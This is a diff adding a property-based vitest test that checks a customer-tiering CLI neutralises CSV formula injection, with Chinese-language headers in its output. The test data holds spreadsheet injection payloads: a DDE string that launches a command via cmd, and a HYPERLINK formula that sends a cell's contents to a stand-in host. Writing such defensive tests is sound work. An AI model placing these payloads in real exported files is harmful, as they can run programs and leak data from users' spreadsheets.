@@ -1,7 +1,8 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 
@@ -70,6 +71,62 @@ describe('tiers CLI', () => {
       );
       expect(r.code).toBe(0);
       expect(csvRows(r.stdout)[1]?.[7]).toMatch(/^Score [\d.]+, in the top 25% → A/u);
+    });
+  });
+
+  describe('CSV injection', () => {
+    const FORMULA_START = /^[ \n]*[=+\-@\t\r]/u;
+    // Names an attacker could put in an ERP export: formula and DDE starts, separators, quotes, line breaks.
+    const hostileName = fc
+      .array(
+        fc.constantFrom(
+          '=',
+          '+',
+          '-',
+          '@',
+          '\t',
+          '\r',
+          '\n',
+          ' ',
+          ',',
+          ';',
+          '"',
+          "'",
+          '|',
+          'cmd',
+          'HYPERLINK("http://x.test")',
+          '1+1',
+          'A',
+        ),
+        {
+          minLength: 1,
+          maxLength: 6,
+        },
+      )
+      .map(parts => parts.join(''))
+      .filter(name => name.trim() !== '');
+
+    it('writes no cell that starts like a formula, keeps signed numbers, and names headers in --lang (generated)', () => {
+      const names = fc.sample(hostileName, { numRuns: 150, seed: 12 });
+      const input = [
+        ['Customer', 'Revenue', 'Profit', 'Note'],
+        ['Neg', '-5000', '-1.2万', '=HYPERLINK("http://x.test?"&A1,"click")'],
+        ...names.map((name, i) => [name, String(1000 * (i + 1)), '10', `+cmd|' /C calc'!A${i}`]),
+      ];
+      const dir = mkdtempSync(join(tmpdir(), 'tiers-'));
+      writeFileSync(join(dir, 'in.csv'), Papa.unparse(input));
+      const r = tiers(join(dir, 'in.csv'), '--out', join(dir, 'out.csv'), '--lang', 'zh', '--today', '2026-03-05');
+      expect(r.code).toBe(0);
+      const rows = csvRows(readFileSync(join(dir, 'out.csv'), 'utf8'));
+      expect(rows[0]).toEqual(['Customer', 'Revenue', 'Profit', 'Note', '等级', '得分', '原因']);
+      expect(rows[1]?.slice(0, 4)).toEqual(['Neg', '-5000', '-1.2万', '\'=HYPERLINK("http://x.test?"&A1,"click")']);
+      expect(rows).toHaveLength(input.length);
+      names.forEach((name, i) => {
+        const row = rows[i + 2] ?? [];
+        expect(row[0]).toBe(FORMULA_START.test(name) ? `'${name}` : name);
+        expect(row[3]).toBe(`'+cmd|' /C calc'!A${i}`);
+      });
+      for (const cell of rows.flat()) if (FORMULA_START.test(cell)) expect(cell).toMatch(/^-[\d.]+万?$/u);
     });
   });
 
